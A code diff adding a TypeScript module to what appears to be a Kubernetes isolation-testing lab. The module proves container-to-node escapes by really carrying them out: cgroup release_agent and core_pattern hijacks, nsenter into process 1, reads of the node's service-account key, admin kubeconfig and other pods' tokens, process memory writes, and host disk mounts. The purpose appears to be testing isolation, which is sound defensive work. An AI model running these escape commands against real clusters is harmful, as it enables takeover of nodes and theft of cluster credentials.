@@ -1,0 +1,155 @@
+/** Escapes from a container to its node, each really made: what ran there, or what was read or written. */
+import { execFileSync, spawn } from "node:child_process";
+import { readFileSync, readlinkSync, rmSync } from "node:fs";
+import { createInterface } from "node:readline";
+import { nodeKey, podKey, type Lab, type Proof, type Ran } from "./proof.ts";
+
+const escape = (
+  edge: string,
+  by: string,
+  attempt?: (lab: Lab, run: (script: string) => Promise<Ran>) => Promise<boolean>,
+): Proof => ({
+  edge,
+  from: podKey(edge),
+  to: nodeKey,
+  by,
+  ...(attempt === undefined ? {} : { attempt: (lab) => attempt(lab, (script) => lab.inPod(edge, script)) }),
+});
+
+/** The mount namespace of the node's first process. */
+const ofTheNode = (): string => readlinkSync("/proc/1/ns/mnt");
+
+/** A program that the kernel calls writes here; the node knows the container's disk by another path. */
+const helper = [
+  "up=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -n 1)",
+  "printf '#!/bin/sh\\nreadlink /proc/self/ns/mnt >%s/told\\n' \"$up\" >/helper && chmod 755 /helper",
+].join("; ");
+
+export const escapes: readonly Proof[] = [
+  escape("cgroup-release-agent", "the kernel ran a release agent on the node", async (_, run) => {
+    const { out } = await run(`${helper}; mkdir -p /tmp/c && mount -t cgroup -o freezer cgroup /tmp/c || exit 1
+      mkdir -p /tmp/c/plimsoll-edge; echo 1 >/tmp/c/plimsoll-edge/notify_on_release
+      old=$(cat /tmp/c/release_agent); echo "$up/helper" >/tmp/c/release_agent
+      sh -c 'echo $$ >/tmp/c/plimsoll-edge/cgroup.procs'; sleep 0.5
+      echo "$old" >/tmp/c/release_agent; rmdir /tmp/c/plimsoll-edge; umount /tmp/c; cat /told`);
+    return out.trim() === ofTheNode();
+  }),
+  escape("core-pattern", "the kernel ran the named program on the node for a crash", async (_, run) => {
+    const { out } = await run(`${helper}; pattern=/host/sys/kernel/core_pattern; old=$(cat $pattern)
+      echo "|$up/helper" >$pattern || exit 1
+      sh -c 'kill -SEGV $$'; sleep 0.5; echo "$old" >$pattern; cat /told`);
+    return out.trim() === ofTheNode();
+  }),
+  escape("host-file-handles", "the node's host name was read by the handle of its root", async (_, run) => {
+    const { code, out } = await run("act handles etc/hostname");
+    return code === 0 && out === readFileSync("/etc/hostname", "utf8");
+  }),
+  escape("host-file-write", "a program lay in the node's /opt", async (_, run) => {
+    await run("echo '#!/bin/sh' >/host/plimsoll-edge");
+    try {
+      return readFileSync("/opt/plimsoll-edge", "utf8") === "#!/bin/sh\n";
+    } catch {
+      return false;
+    } finally {
+      rmSync("/opt/plimsoll-edge", { force: true });
+    }
+  }),
+  escape("host-home-read", "a kubeconfig that was left there was read", async ({ state }, run) => {
+    const { out } = await run("cat /host/kubeconfig");
+    return out === readFileSync(`${state}/limited.kubeconfig`, "utf8");
+  }),
+  escape("host-keys-read", "the key of the accounts' tokens was read", async ({ state }, run) => {
+    const { out } = await run("cat /host/sa.key");
+    return out === readFileSync(`${state}/pki/sa.key`, "utf8");
+  }),
+  escape("host-network-loopback", "etcd's loopback answered", async (_, run) => {
+    const { out } = await run("wget -q -T 3 -O - http://127.0.0.1:2381/health");
+    return out.includes('"health":"true"');
+  }),
+  escape("host-pid-nsenter", "nsenter ran in the mount namespace of process 1", async (_, run) => {
+    const { out } = await run("nsenter -t 1 -m -- readlink /proc/self/ns/mnt");
+    return out.trim() === ofTheNode();
+  }),
+  escape("host-process-environment", "a word of a process of the node was read", async ({ actor }, run) => {
+    const child = spawn("setpriv", ["--bounding-set=-all", "--inh-caps=-all", actor, "target"], {
+      env: { PATH: process.env["PATH"], PLIMSOLL_EDGE: "known-to-the-node" },
+      stdio: ["ignore", "pipe", "inherit"],
+    });
+    const [line = ""] = await firstLines(child.stdout, 1);
+    const { out } = await run(`tr '\\0' '\\n' </proc/${line.split(" ")[0]}/environ`);
+    child.kill("SIGKILL");
+    return out.includes("PLIMSOLL_EDGE=known-to-the-node");
+  }),
+  escape("host-process-injection", "the memory of a process of the node was written", async ({ actor }, run) => {
+    const child = spawn(actor, ["target"], { stdio: ["ignore", "pipe", "inherit"] });
+    const [line = ""] = await firstLines(child.stdout, 1);
+    const { code } = await run(`act write ${line}`);
+    const [word] = code === 0 ? await firstLines(child.stdout, 1) : [""];
+    child.kill("SIGKILL");
+    return word === "yours";
+  }),
+  escape("host-root-read", "the administrator's kubeconfig was read", async ({ state }, run) => {
+    const { out } = await run(`cat /host${state}/admin.kubeconfig`);
+    return out === readFileSync(`${state}/admin.kubeconfig`, "utf8");
+  }),
+  escape("kernel-event-helper", "a setting of the kernel was written through /sys", async (_, run) => {
+    const { code } = await run("f=/host/kernel/rcu_expedited; v=$(cat $f) && echo $v >$f");
+    return code === 0;
+  }),
+  escape("kernel-module-load", "not done: the lab's kernel takes no modules"),
+  escape("kernel-tracing", "a map was made in the kernel", async (_, run) => (await run("act map")).code === 0),
+  escape("kubelet-directory", "the token of another pod was read, and the API server took it", async (lab, run) => {
+    const { out } = await run("cat /host/*/volumes/kubernetes.io~projected/*/token | head -n 1; echo");
+    const [token = ""] = out.split("\n");
+    return token !== "" && (await accountOf(lab, token)).startsWith("system:serviceaccount:");
+  }),
+  escape("log-symlink", "the kubelet served a file of the node by a link among its logs", async (lab, run) => {
+    const { code } = await run("ln -sf /etc/hostname /host/plimsoll-edge");
+    if (code !== 0) return false;
+    const answer = await lab.api.send("GET", "/api/v1/nodes/plimsoll-node/proxy/logs/plimsoll-edge");
+    await run("rm /host/plimsoll-edge");
+    return answer.body.message === readFileSync("/etc/hostname", "utf8");
+  }),
+  escape("node-devices", "not done: the device control group keeps it out, as the edge's doubt says"),
+  escape("privileged-mount", "the node's disk was mounted and read", async (_, run) => {
+    const disk = execFileSync("findmnt", ["-no", "SOURCE", "/"], { encoding: "utf8" }).trim();
+    const { out } = await run(`mkdir -p /tmp/d && mount -o ro ${disk} /tmp/d && cat /tmp/d/etc/hostname; umount /tmp/d`);
+    return out === readFileSync("/etc/hostname", "utf8");
+  }),
+  escape("raw-input-output", "not done: the lab's kernel has neither port access nor /dev/mem"),
+  escape("runtime-socket", "the runtime answered in gRPC's words", async (_, run) =>
+    (await run("act greet /host")).code === 0),
+  escape("runtime-storage", "a file lay in the runtime's storage", async ({ state }, run) => {
+    await run("echo changed >/host/plimsoll-edge");
+    try {
+      return readFileSync(`${state}/containerd/root/plimsoll-edge`, "utf8") === "changed\n";
+    } catch {
+      return false;
+    } finally {
+      rmSync(`${state}/containerd/root/plimsoll-edge`, { force: true });
+    }
+  }),
+];
+
+/** Whom the API server takes the bearer of a token for; empty where it takes him for nobody. */
+export async function accountOf(lab: Lab, token: string): Promise<string> {
+  const { status, text } = await lab.withToken(
+    token,
+    "POST",
+    "/apis/authentication.k8s.io/v1/selfsubjectreviews",
+    { apiVersion: "authentication.k8s.io/v1", kind: "SelfSubjectReview" },
+  );
+  if (status !== 201) return "";
+  const { userInfo } = (JSON.parse(text) as { status: { userInfo: { username: string } } }).status;
+  return userInfo.username;
+}
+
+async function firstLines(stream: NodeJS.ReadableStream, count: number): Promise<readonly string[]> {
+  const lines: string[] = [];
+  const reader = createInterface(stream);
+  for await (const line of reader) {
+    lines.push(line);
+    if (lines.length === count) break;
+  }
+  return lines;
+}
